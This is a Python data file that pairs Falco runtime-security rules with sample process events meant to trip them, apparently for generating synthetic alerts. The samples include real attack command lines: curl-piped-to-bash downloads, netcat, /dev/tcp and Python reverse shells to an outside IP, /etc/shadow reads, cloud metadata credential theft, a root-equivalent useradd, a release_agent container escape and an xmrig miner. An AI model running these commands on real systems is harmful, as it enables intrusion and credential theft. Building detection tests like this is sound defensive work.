"""Stock rules of the syscall source and the processes that trip them, as data.

Names, priorities, tags and output formats are those of Falco's own rules (stable, incubating and
sandbox) as of Falco 0.43, so that an alert looks like what a cluster prints.
"""

# ruff: noqa: S108 - paths that intruders use; nothing here opens one

from collections.abc import Mapping
from dataclasses import dataclass, field

from streams.samples.scenes import Rule, Value, rule
from streams.samples.world import API_SERVER

PROCESS = (
    "evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid"
    " process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline"
    " terminal=%proc.tty"
)
EXEC = PROCESS + " exe_flags=%evt.arg.flags"
ANCESTORS = "gparent=%proc.aname[2] ggparent=%proc.aname[3] gggparent=%proc.aname[4] "
NETWORK = (
    "connection=%fd.name lport=%fd.lport rport=%fd.rport fd_type=%fd.type fd_proto=%fd.l4proto "
)

SHELL = "/usr/bin/bash"
POOL = "185.10.68.123"
ELSEWHERE = "45.155.205.233"
METADATA = "169.254.169.254"


@dataclass(frozen=True, slots=True)
class Act:
    """One process that trips a rule: its program, command line, parent's command line and more."""

    exe: str
    command: str
    parent: str = "bash"
    tty: int = 0
    root: bool = False
    more: Mapping[str, Value] = field(default_factory=dict)


@dataclass(frozen=True, slots=True)
class Case:
    """A rule, the places where it fires, how many scenes it gets, and the acts that trip it."""

    rule: Rule
    where: str
    weight: int
    acts: tuple[Act, ...]


def _file(path: str, flags: str = "O_RDONLY", **more: Value) -> dict[str, Value]:
    return {"evt.type": "openat", "fd.name": path, "evt.arg.flags": flags, **more}


def _socket(ip: str, port: int, proto: str = "tcp", kind: str = "connect") -> dict[str, Value]:
    return {
        "evt.type": kind, "fd.name": f"{{ip}}:~port~->{ip}:{port}", "fd.lport": "~port~",
        "fd.rport": port, "fd.type": "ipv4", "fd.l4proto": proto, "fd.sip": ip,
    }  # fmt: skip


UPPER: dict[str, Value] = {"evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER"}
DROP = rule(
    "Drop and execute new binary in container",
    "Critical",
    "PCI_DSS_11.5.1 TA0003 container maturity_stable mitre_persistence process",
    "Executing binary not part of base image | proc_exe=%proc.exe proc_sname=%proc.sname"
    " gparent=%proc.aname[2] proc_exe_ino_ctime=%proc.exe_ino.ctime"
    " proc_exe_ino_mtime=%proc.exe_ino.mtime proc_exe_ino_ctime_duration_proc_start="
    "%proc.exe_ino.ctime_duration_proc_start proc_cwd=%proc.cwd"
    " container_start_ts=%container.start_ts " + EXEC,
)

CASES = (
    Case(rule("Terminal shell in container", "Notice",
              "T1059 container maturity_stable mitre_execution shell",
              "A shell was spawned in a container with an attached terminal | " + EXEC),
         "container", 30, (
             Act(SHELL, "bash", "runc init", 34816, root=True),
             Act("/bin/busybox", "sh -c clear; (bash || ash || sh)", "containerd-shim", 34817),
             Act("/usr/bin/dash", "sh", "runc init", 34816))),
    Case(rule("Read sensitive file untrusted", "Warning",
              "T1555 container filesystem host maturity_stable mitre_credential_access",
              "Sensitive file opened for reading by non-trusted program | file=%fd.name "
              + ANCESTORS + PROCESS),
         "anywhere", 30, (
             Act("/usr/bin/cat", "cat /etc/shadow", "bash", 34816, True, _file("/etc/shadow")),
             Act("/usr/bin/python3.11", "python3 /opt/inventory/collect.py --all", "cron", 0, True,
                 _file("/etc/sudoers")),
             Act("/usr/bin/tar", "tar czf /tmp/.b.tgz /etc/pam.d /etc/shadow", "sh", 0, True,
                 _file("/etc/pam.d/common-auth")))),
    Case(rule("Read sensitive file trusted after startup", "Warning",
              "T1555 container filesystem host maturity_stable mitre_credential_access",
              "Sensitive file opened for reading by trusted program after startup | file=%fd.name"
              " pcmdline=%proc.pcmdline " + ANCESTORS + PROCESS),
         "anywhere", 6, (
             Act("/usr/sbin/httpd", "httpd -DFOREGROUND", "httpd -DFOREGROUND", 0, True,
                 _file("/etc/shadow")),)),
    Case(rule("Directory traversal monitored file read", "Warning",
              "T1555 container filesystem host maturity_stable mitre_credential_access",
              "Read monitored file via directory traversal | file=%fd.name fileraw=%fd.nameraw "
              + ANCESTORS + PROCESS),
         "container", 5, (
             Act("{exe}", "{server}", "containerd-shim", 0, False,
                 _file("/etc/passwd", **{"fd.nameraw": "/srv/static/../../../etc/passwd"})),)),
    Case(rule("Run shell untrusted", "Notice",
              "T1059.004 container host maturity_stable mitre_execution process shell",
              "Shell spawned by untrusted binary | parent_exe=%proc.pexe"
              " parent_exepath=%proc.pexepath pcmdline=%proc.pcmdline gparent=%proc.aname[2]"
              " ggparent=%proc.aname[3] aname[4]=%proc.aname[4] aname[5]=%proc.aname[5] " + EXEC),
         "container", 12, (
             Act("/usr/bin/dash", "sh -c id; uname -a; cat /proc/1/cgroup", "{server}"),
             Act(SHELL, "bash -c \"curl -s http://" + ELSEWHERE + "/x.sh | bash\"", "{server}"))),
    Case(rule("System user interactive", "Informational",
              "NIST_800-53_AC-2 T1059 container host maturity_stable mitre_execution users",
              "System user ran an interactive command | " + EXEC),
         "host", 4, (Act(SHELL, "bash", "su -s /bin/bash www-data", 34818),)),
    Case(rule("Contact K8S API Server From Container", "Notice",
              "T1565 container k8s maturity_stable mitre_discovery network",
              "Unexpected connection to K8s API Server from container | " + NETWORK + PROCESS),
         "container", 28, (
             Act("{exe}", "{server}", "containerd-shim", 0, False, _socket(API_SERVER, 443)),
             Act("/usr/bin/curl", "curl -sk https://kubernetes.default/api/v1/secrets?limit=500&watch=0",
                 "sh", 0, False, _socket(API_SERVER, 443)))),
    Case(rule("Netcat Remote Code Execution in Container", "Warning",
              "T1059 container maturity_stable mitre_execution network process",
              "Netcat runs inside container that allows remote code execution | " + EXEC),
         "container", 5, (
             Act("/usr/bin/nc.traditional", f"nc -e /bin/bash {ELSEWHERE} 4444", "sh"),
             Act("/usr/bin/ncat", "ncat --sh-exec /bin/sh -l 31337", "bash", 34816))),
    Case(rule("Search Private Keys or Passwords", "Warning",
              "T1552.001 container filesystem host maturity_stable mitre_credential_access process",
              "Grep private keys or passwords activities found | " + EXEC),
         "anywhere", 7, (
             Act("/usr/bin/find", "find / -name id_rsa -o -name id_ed25519", "bash", 34816),
             Act("/usr/bin/grep", "grep -r \"BEGIN RSA PRIVATE\" /home /srv", "sh"))),
    Case(rule("Clear Log Activities", "Warning",
              "NIST_800-53_AU-10 T1070 container filesystem host maturity_stable"
              " mitre_defense_evasion",
              "Log files were tampered | file=%fd.name " + PROCESS),
         "anywhere", 8, (
             Act("/usr/bin/truncate", "truncate -s 0 /var/log/auth.log", "bash", 34816, True,
                 _file("/var/log/auth.log", "O_TRUNC|O_CREAT|O_WRONLY")),
             Act(SHELL, "bash /usr/local/bin/rotate.sh > /var/log/syslog 2>&1", "cron", 0, True,
                 _file("/var/log/syslog", "O_TRUNC|O_CREAT|O_WRONLY|FD_UPPER_LAYER")))),
    Case(rule("Remove Bulk Data from Disk", "Warning",
              "T1485 container filesystem host maturity_stable mitre_impact process",
              "Bulk data has been removed from disk | file=%fd.name " + EXEC),
         "anywhere", 3, (Act("/usr/bin/shred", "shred -fuz /srv/data/export.csv", "bash", 34816),)),
    Case(rule("Create Symlink Over Sensitive Files", "Warning",
              "T1555 container filesystem host maturity_stable mitre_credential_access",
              "Symlinks created over sensitive files | target=%evt.arg.target"
              " linkpath=%evt.arg.linkpath " + PROCESS),
         "anywhere", 3, (
             Act("/usr/bin/ln", "ln -s /etc /tmp/etc", "bash", 34816, False,
                 {"evt.type": "symlinkat", "evt.arg.target": "/etc",
                  "evt.arg.linkpath": "/tmp/etc"}),)),
    Case(rule("Create Hardlink Over Sensitive Files", "Warning",
              "T1555 container filesystem host maturity_stable mitre_credential_access",
              "Hardlinks created over sensitive files | target=%evt.arg.target"
              " linkpath=%evt.arg.linkpath " + PROCESS),
         "host", 2, (
             Act("/usr/bin/ln", "ln /etc/shadow /var/tmp/.s", "bash", 34816, True,
                 {"evt.type": "linkat", "evt.arg.target": "/etc/shadow",
                  "evt.arg.linkpath": "/var/tmp/.s"}),)),
    Case(rule("Packet socket created in container", "Notice",
              "T1557.002 container maturity_stable mitre_credential_access network",
              "Packet socket was created in a container | socket_info=%evt.args " + NETWORK
              + PROCESS),
         "container", 6, (
             Act("/usr/bin/tcpdump", "tcpdump -i eth0 -w /tmp/c.pcap", "bash", 34816, True,
                 {"evt.type": "socket", "fd.type": "packet",
                  "evt.args": "domain=17(AF_PACKET) type=3 proto=768"}),)),
    Case(rule("Redirect STDOUT/STDIN to Network Connection in Container", "Notice",
              "T1059 container maturity_stable mitre_execution network process",
              "Redirect stdout/stdin to network connection | " + ANCESTORS + "fd.sip=%fd.sip "
              + NETWORK + PROCESS),
         "container", 8, (
             Act(SHELL, f"bash -c bash -i >& /dev/tcp/{ELSEWHERE}/9001 0>&1", "{server}", 0, False,
                 _socket(ELSEWHERE, 9001, kind="dup2")),
             Act("/usr/bin/python3.11", "python3 -c import socket,os,pty;s=socket.socket();"
                 f"s.connect((\"{ELSEWHERE}\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)]",
                 "sh", 0, False, _socket(ELSEWHERE, 9001, kind="dup2")))),
    Case(rule("Linux Kernel Module Injection Detected", "Warning",
              "TA0003 container host maturity_stable mitre_persistence process",
              "Linux Kernel Module injection from container | parent_exepath=%proc.pexepath"
              " gparent=%proc.aname[2] gexepath=%proc.aexepath[2] module=%proc.args res=%evt.res "
              + PROCESS),
         "privileged", 2, (
             Act("/usr/bin/kmod", "modprobe br_netfilter", "bash", 0, True,
                 {"evt.type": "finit_module", "proc.args": "br_netfilter"}),)),
    Case(rule("Debugfs Launched in Privileged Container", "Warning",
              "T1611 cis container maturity_stable mitre_privilege_escalation process",
              "Debugfs launched started in a privileged container | " + EXEC),
         "privileged", 2, (Act("/usr/sbin/debugfs", "debugfs /dev/nvme0n1p1", "sh", 34816, True),)),
    Case(rule("Detect release_agent File Container Escapes", "Critical",
              "T1611 container maturity_stable mitre_privilege_escalation process",
              "Detect an attempt to exploit a container escape using release_agent file |"
              " file=%fd.name cap_effective=%thread.cap_effective " + PROCESS),
         "privileged", 2, (
             Act("/usr/bin/dash", "sh -c echo /cmd > /tmp/cgrp/release_agent", "sh", 0, True,
                 _file("/tmp/cgrp/release_agent", "O_TRUNC|O_CREAT|O_WRONLY",
                       **{"thread.cap_effective": "CAP_CHOWN CAP_DAC_OVERRIDE CAP_SYS_ADMIN"})),)),
    Case(rule("PTRACE attached to process", "Warning",
              "T1055.008 container host maturity_stable mitre_privilege_escalation process",
              "Detected ptrace PTRACE_ATTACH attempt | proc_pcmdline=%proc.pcmdline " + PROCESS),
         "anywhere", 4, (
             Act("/usr/bin/gdb", "gdb -p 1", "bash", 34816, True, {"evt.type": "ptrace"}),)),
    Case(rule("PTRACE anti-debug attempt", "Notice",
              "T1622 container host maturity_stable mitre_defense_evasion process",
              "Detected potential PTRACE_TRACEME anti-debug attempt |"
              " proc_pcmdline=%proc.pcmdline " + PROCESS),
         "container", 3, (Act("/tmp/.x/agent", "agent -d", "sh", 0, False,
                              {"evt.type": "ptrace"}),)),
    Case(rule("Find AWS Credentials", "Warning",
              "T1552 aws container host maturity_stable mitre_credential_access process",
              "Detected AWS credentials search activity | proc_pcmdline=%proc.pcmdline"
              " proc_cwd=%proc.cwd group_gid=%group.gid group_name=%group.name"
              " user_loginname=%user.loginname " + EXEC),
         "anywhere", 5, (
             Act("/usr/bin/grep", "grep -ri aws_secret_access_key /home /app", "bash", 34816),)),
    Case(rule("Execution from /dev/shm", "Warning",
              "T1059.004 container host maturity_stable mitre_execution",
              "File execution detected from /dev/shm | evt_res=%evt.res file=%fd.name"
              " proc_cwd=%proc.cwd proc_pcmdline=%proc.pcmdline user_loginname=%user.loginname"
              " group_gid=%group.gid group_name=%group.name " + EXEC),
         "anywhere", 4, (Act("/dev/shm/.k", ".k --threads=2", "bash", 0, False, UPPER),)),
    Case(DROP, "container", 16, (
        Act("/tmp/xmrig", f"xmrig -o {POOL}:3333 -u 48edfHu7V9Z84YzzMa --donate-level=1", "sh", 0,
            False, UPPER),
        Act("/usr/bin/curl", "curl -fsSL https://get.acme.example/tool?os=linux&arch=amd64", "bash",
            34816, True, UPPER))),
    Case(DROP, "container", 1, (
        Act("/usr/local/bin/python3", "python3 -c exec(__import__(\"zlib\").decompress(b\""
            + "x9c4Bd1a7E" * 150 + "\"))", "{server}", 0, False, UPPER),)),
    Case(rule("Disallowed SSH Connection Non Standard Port", "Notice",
              "T1059 container host maturity_stable mitre_execution network process",
              "Disallowed SSH Connection | " + NETWORK + PROCESS),
         "anywhere", 3, (
             Act("/usr/bin/ssh", f"ssh -p 443 deploy@{ELSEWHERE}", "bash", 34816, False,
                 _socket(ELSEWHERE, 443)),)),
    Case(rule("Fileless execution via memfd_create", "Critical",
              "T1620 container host maturity_stable mitre_defense_evasion process",
              "Fileless execution via memfd_create | container_start_ts=%container.start_ts"
              " proc_cwd=%proc.cwd evt_res=%evt.res proc_sname=%proc.sname gparent=%proc.aname[2] "
              + EXEC),
         "container", 4, (
             Act("memfd:a", "[kworker/u8:2]", "python3 -", 0, False,
                 {"evt.arg.flags": "EXE_FROM_MEMFD"}),)),
    Case(rule("Launch Privileged Container", "Informational",
              "PCI_DSS_10.2.5 T1610 cis container maturity_incubating mitre_execution",
              "Privileged container started | " + EXEC),
         "privileged", 5, (Act("{exe}", "{server}", "containerd-shim", 0, True),)),
    Case(rule("Launch Excessively Capable Container", "Informational",
              "T1610 cis container maturity_incubating mitre_execution",
              "Excessively capable container started | cap_permitted=%thread.cap_permitted "
              + EXEC),
         "privileged", 3, (
             Act("{exe}", "{server}", "containerd-shim", 0, True,
                 {"thread.cap_permitted": "CAP_NET_ADMIN CAP_NET_RAW CAP_SYS_ADMIN CAP_BPF"}),)),
    Case(rule("DB program spawned process", "Notice",
              "T1190 container database host maturity_incubating mitre_execution process",
              "Database-related program spawned process other than itself | " + EXEC),
         "container", 4, (
             Act("/usr/bin/dash", "sh -c pg_dump -U postgres ledger | gzip > /tmp/l.gz",
                 "postgres: app ledger 10.244.3.9(51022) COPY"),)),
    Case(rule("Modify Shell Configuration File", "Warning",
              "T1546.004 container filesystem host maturity_incubating mitre_persistence",
              "A shell configuration file has been modified | file=%fd.name"
              " pcmdline=%proc.pcmdline " + PROCESS),
         "anywhere", 4, (
             Act("/usr/bin/vim.basic", "vim /root/.bashrc", "bash", 34816, True,
                 _file("/root/.bashrc", "O_CREAT|O_WRONLY")),)),
    Case(rule("Change thread namespace", "Notice",
              "T1611 container host maturity_incubating mitre_privilege_escalation process",
              "Namespace change (setns) by unexpected program | " + PROCESS),
         "anywhere", 4, (
             Act("/usr/bin/nsenter", "nsenter --target 1 --mount --uts --ipc --net --pid", "sh",
                 34816, True, {"evt.type": "setns"}),)),
    Case(rule("Contact cloud metadata service from container", "Notice",
              "T1565 container maturity_incubating mitre_discovery network",
              "Outbound connection to cloud instance metadata service | " + NETWORK + PROCESS),
         "container", 10, (
             Act("/usr/bin/curl", f"curl http://{METADATA}/latest/meta-data/iam/security-credentials/",
                 "sh", 0, False, _socket(METADATA, 80)),)),
    Case(rule("Launch Package Management Process in Container", "Error",
              "T1505 container maturity_incubating mitre_persistence process software_mgmt",
              "Package management process launched in container | " + EXEC),
         "container", 14, (
             Act("/usr/bin/apt-get", "apt-get install -y netcat-traditional", "bash", 34816, True),
             Act("/sbin/apk", "apk add --no-cache curl>8", "sh", 0, True))),
    Case(rule("Launch Suspicious Network Tool in Container", "Notice",
              "T1059 container maturity_incubating mitre_execution network process",
              "Network tool launched in container | " + EXEC),
         "container", 10, (
             Act("/usr/bin/nmap", "nmap -sT -p 1-1024 10.244.0.0/16", "bash", 34816, True),
             Act("/usr/bin/dig", "dig +short ledger.payments.svc.cluster.local", "sh"))),
    Case(rule("Launch Suspicious Network Tool on Host", "Notice",
              "T1059 host maturity_incubating mitre_execution network process",
              "Network tool launched on host | " + EXEC),
         "host", 5, (Act("/usr/bin/tcpdump", "tcpdump -nn port 5432", "sudo", 34818, True),)),
    Case(rule("User mgmt binaries", "Notice",
              "T1098 host maturity_incubating mitre_persistence software_mgmt users",
              "User management binary command run outside of container | " + ANCESTORS + EXEC),
         "host", 5, (
             Act("/usr/sbin/useradd", "useradd -o -u 0 -g 0 -M support", "bash", 34818, True),
             Act("/usr/sbin/usermod", "usermod -aG docker deploy", "sudo", 34818, True))),
    Case(rule("Non sudo setuid", "Notice",
              "T1548.001 container host maturity_incubating mitre_privilege_escalation users",
              "Unexpected setuid call by non-sudo, non-root program | arg_uid=%evt.arg.uid "
              + PROCESS),
         "host", 3, (
             Act("/usr/bin/newgrp", "newgrp docker", "bash", 34818, False,
                 {"evt.type": "setuid", "evt.arg.uid": "root"}),)),
    Case(rule("Create files below dev", "Error",
              "T1543 filesystem host maturity_incubating mitre_persistence",
              "File created below /dev by untrusted program | file=%fd.name " + PROCESS),
         "host", 3, (
             Act("/usr/bin/touch", "touch /dev/.udev.tmp", "bash", 34818, True,
                 _file("/dev/.udev.tmp", "O_CREAT|O_WRONLY")),)),
    Case(rule("Unexpected UDP Traffic", "Notice",
              "TA0011 container host maturity_incubating mitre_exfiltration network",
              "Unexpected UDP Traffic Seen | " + NETWORK + PROCESS),
         "anywhere", 8, (
             Act("{exe}", "{server}", "containerd-shim", 0, False,
                 _socket(ELSEWHERE, 4789, "udp", "sendto")),)),
    Case(rule("Read ssh information", "Error",
              "T1005 container filesystem host maturity_incubating mitre_collection",
              "ssh-related file/directory read by non-ssh program | file=%fd.name"
              " pcmdline=%proc.pcmdline " + PROCESS),
         "host", 3, (
             Act("/usr/bin/rsync", "rsync -a /home/deploy/.ssh/ /mnt/backup/", "cron", 0, True,
                 _file("/home/deploy/.ssh/id_ed25519")),)),
    Case(rule("Write below etc", "Error",
              "T1098 container filesystem host maturity_sandbox mitre_persistence",
              "File below /etc opened for writing | file=%fd.name pcmdline=%proc.pcmdline "
              + ANCESTORS + PROCESS),
         "anywhere", 8, (
             Act("/usr/bin/sed", "sed -i s/nameserver.*/nameserver 1.1.1.1/ /etc/resolv.conf",
                 "sh", 0, True, _file("/etc/resolv.conf", "O_TRUNC|O_CREAT|O_WRONLY")),)),
    Case(rule("Detect outbound connections to common miner pool ports", "Critical",
              "T1496 container host maturity_sandbox mitre_impact network",
              "Outbound connection to IP/Port flagged by https://cryptoioc.ch | " + NETWORK
              + PROCESS),
         "container", 4, (
             Act("/tmp/xmrig", f"xmrig -o {POOL}:3333 --tls", "sh", 0, False,
                 _socket(POOL, 3333)),)),
)  # fmt: skip
